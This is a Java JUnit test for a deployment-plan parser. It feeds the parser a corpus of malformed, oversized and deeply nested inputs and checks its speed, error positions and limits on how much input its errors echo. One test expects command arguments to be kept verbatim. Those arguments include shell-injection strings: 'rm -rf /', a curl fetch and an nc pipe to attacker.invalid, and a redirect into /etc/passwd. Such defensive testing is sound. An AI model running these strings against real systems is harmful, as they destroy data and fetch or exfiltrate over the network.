package dev.beanstalkmigrator.plan;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import dev.beanstalkmigrator.model.EnvironmentSpec;
import dev.beanstalkmigrator.model.MigrationPlan;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every file of the hostile corpus ({@code src/test/resources/plans/hostile}, indexed by its README) and a
 * few inputs too large to commit, generated here: the parser answers each within 2 s, never throws, gives
 * the outcome the index expects, and reports invalid input with real positions, the source file's name
 * and messages that quote at most {@value #MAX_ECHO} characters of the input.
 *
 * <p>The corpus is public to {@code HostilePlanReconcileTest}, which uploads the same files as the plan in
 * force of a running reconciler.
 */
public class HostilePlanCorpusTest {

    static final String FOLDER = "/plans/hostile/";
    static final String INDEX = "README.md";

    /** Longest run of input characters an error message may repeat: hostile input must not bloat logs. */
    static final int MAX_ECHO = 200;

    /** What a small input may cost, JIT warm-up aside. */
    static final Duration BUDGET = Duration.ofSeconds(2);

    static final PlanParser PARSER = new PlanParser();

    static final List<String> BASE_COMMAND = List.of("python", "manage.py", "migrate");

    /**
     * One input and what the index says of it.
     *
     * @param mentions text that some error's {@code describe()} must contain, or "" for no check
     * @param generated made by {@link #generated()} rather than committed
     */
    public record Case(String name, byte[] content, boolean valid, String mentions, boolean generated) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** One row of the index. */
    record Row(String file, String what, boolean valid, String mentions) {}

    /** The committed files and the generated inputs, in name order. */
    public static List<Case> corpus() {
        List<Case> cases = new ArrayList<>(committed());
        cases.addAll(generated());
        return cases;
    }

    /** The committed files, each with its row of the index. */
    public static List<Case> committed() {
        Map<String, Row> index = index();
        List<Case> cases = new ArrayList<>();
        for (Path file : files()) {
            String name = file.getFileName().toString();
            Row row = index.get(name);
            if (row == null) {
                throw new IllegalStateException(name + " is not in " + INDEX + "; add a row for it");
            }
            cases.add(new Case(name, read(file), row.valid(), row.mentions(), false));
        }
        return cases;
    }

    /**
     * Inputs too large to commit, built from a small valid plan. Their size is the point, so they are made
     * in memory; {@link #everyInputIsAnsweredQuicklyAndAsTheIndexExpects} writes them to a temporary folder
     * and parses them from there, as it does the committed files.
     */
    public static List<Case> generated() {
        String base = PlanParserTest.BASE;
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("generated-over-10-mib.yaml", padded(base, 10 * 1024 * 1024 + 4096), false,
                "more than the limit of 1048576 bytes (1 MiB)", true));
        cases.add(new Case("generated-one-byte-over-the-limit.yaml",
                padded(base, PlanLimits.DEFAULTS.maxBytes() + 1), false, "more than the limit", true));
        cases.add(new Case("generated-exactly-at-the-limit.yaml", padded(base, PlanLimits.DEFAULTS.maxBytes()),
                true, "", true));
        cases.add(new Case("generated-long-line.yaml",
                (base + "# " + "x".repeat(YamlReader.MAX_LINE_LENGTH + 10) + "\n").getBytes(UTF_8), false,
                "longer than " + YamlReader.MAX_LINE_LENGTH + " characters", true));
        StringBuilder wide = new StringBuilder(base).append("      command: [\n");
        for (int i = 0; i < 60; i++) {
            wide.append("        ").append("a,".repeat(2_000)).append('\n');
        }
        wide.append("        a]\n");
        cases.add(new Case("generated-too-many-nodes.yaml", wide.toString().getBytes(UTF_8), false,
                "expands to more than " + PlanLimits.DEFAULTS.maxNodes() + " nodes", true));
        cases.add(new Case("generated-deep-nesting-100k.yaml", "[\n".repeat(100_000).getBytes(UTF_8), false,
                "nesting is deeper than", true));
        StringBuilder errors = new StringBuilder(base);
        for (int i = 0; i < 3_000; i++) {
            errors.append("    - {name: \"-bad-").append(i).append("\"}\n");
        }
        cases.add(new Case("generated-3000-bad-environments.yaml", errors.toString().getBytes(UTF_8), false,
                "more errors from here on are not shown", true));
        return cases;
    }

    /** {@code text}, then comment lines up to exactly {@code size} bytes. */
    private static byte[] padded(String text, int size) {
        byte[] head = text.getBytes(UTF_8);
        byte[] bytes = new byte[size];
        System.arraycopy(head, 0, bytes, 0, head.length);
        int i = head.length;
        while (i < size) {
            int line = Math.min(100, size - i);
            bytes[i] = '#';
            for (int k = 1; k < line - 1; k++) {
                bytes[i + k] = 'x';
            }
            bytes[i + line - 1] = '\n';
            i += line;
        }
        return bytes;
    }

    static Path folder() {
        URL url = HostilePlanCorpusTest.class.getResource(FOLDER + INDEX);
        if (url == null) {
            throw new IllegalStateException("the hostile corpus is missing from the test resources");
        }
        try {
            return Path.of(url.toURI()).getParent();
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    static List<Path> files() {
        try (Stream<Path> list = Files.list(folder())) {
            return list.filter(Files::isRegularFile)
                    .filter(p -> !p.getFileName().toString().equals(INDEX))
                    .sorted()
                    .toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The index's table: {@code | `file` | what it is | valid or invalid | error mentions |}. */
    static Map<String, Row> index() {
        Map<String, Row> rows = new LinkedHashMap<>();
        for (String line : new String(read(folder().resolve(INDEX)), UTF_8).split("\n")) {
            if (!line.startsWith("| `")) {
                continue;
            }
            String[] cells = line.split("\\|", -1);
            if (cells.length != 6) {
                throw new IllegalStateException("an index row needs 4 cells: " + line);
            }
            String file = cells[1].trim().replace("`", "");
            String expected = cells[3].trim();
            if (!expected.equals("valid") && !expected.equals("invalid")) {
                throw new IllegalStateException("expected outcome must be valid or invalid: " + line);
            }
            if (rows.put(file, new Row(file, cells[2].trim(), expected.equals("valid"), cells[4].trim())) != null) {
                throw new IllegalStateException(file + " is listed twice in " + INDEX);
            }
        }
        return rows;
    }

    static byte[] read(Path file) {
        try {
            return Files.readAllBytes(file);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static Stream<Case> cases() {
        return corpus().stream();
    }

    /**
     * The 2 s budget is for the parser's work on hostile input, not for the JIT's first compile of it: on a
     * busy two-core machine a cold parse of a few hundred KiB takes several times as long as a warm one. So
     * the generated inputs are parsed once, untimed, before the timed runs; a parser that is slow by design
     * (quadratic, or expanding aliases) is still slow when warm.
     */
    @BeforeAll
    static void warmUp() {
        PARSER.parse("warm-up.yaml", PlanParserTest.BASE.getBytes(UTF_8));
        generated().forEach(c -> PARSER.parse(c.name(), c.content()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void everyInputIsAnsweredQuicklyAndAsTheIndexExpects(Case c, @TempDir Path temp) throws IOException {
        byte[] content = c.content();
        if (c.generated()) {
            Path file = temp.resolve(c.name());
            Files.write(file, content);
            content = Files.readAllBytes(file);
        }
        byte[] input = content;
        ParseOutcome outcome = assertTimeoutPreemptively(BUDGET,
                () -> assertDoesNotThrow(() -> PARSER.parse(c.name(), input), c.name() + " threw"),
                c.name() + " took longer than " + BUDGET);

        if (c.valid()) {
            ParseOutcome.Valid valid = assertInstanceOf(ParseOutcome.Valid.class, outcome, () -> c.name()
                    + " should be valid, got:\n" + ((ParseOutcome.Invalid) outcome).describe());
            checkValid(c.name(), input, valid.plan());
            return;
        }
        ParseOutcome.Invalid invalid = assertInstanceOf(ParseOutcome.Invalid.class, outcome,
                c.name() + " should be invalid");
        checkInvalid(c, input, invalid);
        assertEquals(invalid.describe(), ((ParseOutcome.Invalid) PARSER.parse(c.name(), input)).describe(),
                "the same input gives the same report");
    }

    private static void checkInvalid(Case c, byte[] input, ParseOutcome.Invalid invalid) {
        List<PlanError> errors = invalid.errors();
        assertFalse(errors.isEmpty(), c.name());
        assertTrue(errors.size() <= PlanLimits.DEFAULTS.maxErrors(), c.name() + ": " + errors.size() + " errors");
        String text = new String(input, UTF_8);
        for (PlanError error : errors) {
            String described = error.describe();
            assertTrue(error.line() >= 1 && error.column() >= 1, () -> c.name() + ": bad position in " + described);
            assertTrue(error.message() != null && !error.message().isBlank(), () -> c.name() + ": blank message");
            assertTrue(described.startsWith(c.name() + ":" + error.line() + ":" + error.column() + ": "),
                    () -> c.name() + ": describe() does not name the file: " + described);
            assertFalse(error.message().contains("report this as a bug"),
                    () -> c.name() + ": an internal failure surfaced: " + described);
            assertNoLongEcho(c.name(), described, text);
        }
        if (!c.mentions().isEmpty()) {
            assertTrue(errors.stream().anyMatch(e -> e.describe().contains(c.mentions())),
                    () -> c.name() + ": no error mentions '" + c.mentions() + "':\n" + invalid.describe());
        }
    }

    /** Fails if {@code message} repeats more than {@link #MAX_ECHO} consecutive characters of {@code input}. */
    static void assertNoLongEcho(String name, String message, String input) {
        for (int i = 0; i + MAX_ECHO < message.length(); i++) {
            String window = message.substring(i, i + MAX_ECHO + 1);
            if (input.contains(window)) {
                fail(name + ": an error repeats more than " + MAX_ECHO + " characters of the input: " + message);
            }
        }
    }

    /** What each valid file must read as, beyond being valid. */
    private static void checkValid(String name, byte[] input, MigrationPlan plan) {
        switch (name) {
            case "shell-command-env-reference.yaml" -> {
                List<String> expected = List.of("sh", "-c", "echo $DATABASE_URL");
                assertVerbatim(name, input, expected, plan.environments().get(0).command());
            }
            case "shell-metacharacters-in-command.yaml" -> {
                List<String> expected = List.of("./migrate", "; rm -rf / #", "$(curl -s http://attacker.invalid/x)",
                        "`id`", "${HOME:-/root}", "%PATH%", "&& reboot", "| nc attacker.invalid 4444", "> /etc/passwd",
                        "{version}");
                assertVerbatim(name, input, expected, plan.environments().get(0).command());
            }
            case "alias-within-limits.yaml" -> {
                assertEquals(List.of("acme-web-prod", "acme-web-staging"),
                        plan.environments().stream().map(EnvironmentSpec::name).toList());
                for (EnvironmentSpec env : plan.environments()) {
                    assertEquals(BASE_COMMAND, env.command(), name);
                    assertEquals(List.of("subnet-1"), env.network().subnets(), name);
                }
            }
            case "unicode-plan-name.yaml" -> {
                assertEquals("\u30a2\u30af\u30e1 \uD83D\uDE80 caf\u00e9 \u05e9\u05dc\u05d5\u05dd", plan.name());
                assertBaseEnvironment(name, plan);
            }
            case "stray-bracket-in-plain-value.yaml" -> {
                assertEquals("v42]", plan.environments().get(0).version().label(), name);
                assertEquals(BASE_COMMAND, plan.environments().get(0).command(), name);
            }
            case "generated-exactly-at-the-limit.yaml" -> {
                assertEquals(PlanLimits.DEFAULTS.maxBytes(), input.length);
                assertBaseEnvironment(name, plan);
            }
            case "json-document.json", "json-minified-one-line.json" -> {
                assertBaseEnvironment(name, plan);
                assertEquals(Duration.ofMinutes(10), plan.environments().get(0).timeout(), name);
            }
            case "line-endings-crlf.yaml", "line-endings-cr-only.yaml", "bom-utf8.yaml", "bom-utf8-crlf.yaml",
                    "explicit-document-markers.yaml", "flow-style-one-line.yaml" -> assertBaseEnvironment(name, plan);
            default -> fail(name + " is valid, but this test does not say what it must read as; add a case");
        }
    }

    /** The plan reads as the small base plan: no stray carriage return, BOM or quote got into a value. */
    private static void assertBaseEnvironment(String name, MigrationPlan plan) {
        assertEquals(1, plan.environments().size(), name);
        if (!name.equals("unicode-plan-name.yaml")) {
            assertEquals("acme", plan.name(), name);
        }
        EnvironmentSpec env = plan.environments().get(0);
        assertEquals("acme-web-prod", env.name(), name);
        assertEquals("acme", env.application(), name);
        assertEquals("v42", env.version().label(), name);
        assertEquals("acme-prod", env.cluster(), name);
        assertEquals("acme-web", env.taskDefinition(), name);
        assertEquals("web", env.container(), name);
        assertEquals(BASE_COMMAND, env.command(), name);
        assertEquals(List.of("subnet-1"), env.network().subnets(), name);
    }

    /**
     * The command is an exec array, run without a shell: each argument is kept exactly as written, byte for
     * byte, with no {@code $} expansion, no splitting and no placeholder replacement.
     */
    private static void assertVerbatim(String name, byte[] input, List<String> expected, List<String> actual) {
        assertEquals(expected, actual, name);
        String text = new String(input, UTF_8);
        for (int i = 0; i < expected.size(); i++) {
            assertArrayEquals(expected.get(i).getBytes(UTF_8), actual.get(i).getBytes(UTF_8),
                    name + ": argument " + i + " changed");
            assertTrue(text.contains("\"" + actual.get(i) + "\"") || text.contains(" " + actual.get(i)),
                    name + ": argument " + i + " is not the file's own text: " + actual.get(i));
        }
    }

    @Test
    void theIndexListsEveryFileAndOnlyThose() {
        Set<String> onDisk = files().stream().map(p -> p.getFileName().toString())
                .collect(Collectors.toCollection(TreeSet::new));
        Set<String> indexed = new TreeSet<>(index().keySet());
        assertEquals(indexed, onDisk, "the index and the folder differ");
    }

    @Test
    void theCorpusIsLargeVariedAndSmall() {
        List<Case> committed = committed();
        assertTrue(committed.size() >= 60, "only " + committed.size() + " committed files");
        assertTrue(committed.stream().filter(Case::valid).count() >= 5, "too few valid-but-odd files");
        assertTrue(committed.stream().anyMatch(c -> c.name().endsWith(".png") || c.name().endsWith(".bin")),
                "no binary file");
        for (Case c : committed) {
            assertTrue(c.content().length < 100 * 1024, c.name() + " is too large to commit; generate it instead");
        }
        assertTrue(generated().stream().anyMatch(c -> c.content().length > 10 * 1024 * 1024),
                "no generated input over 10 MiB");
    }
}
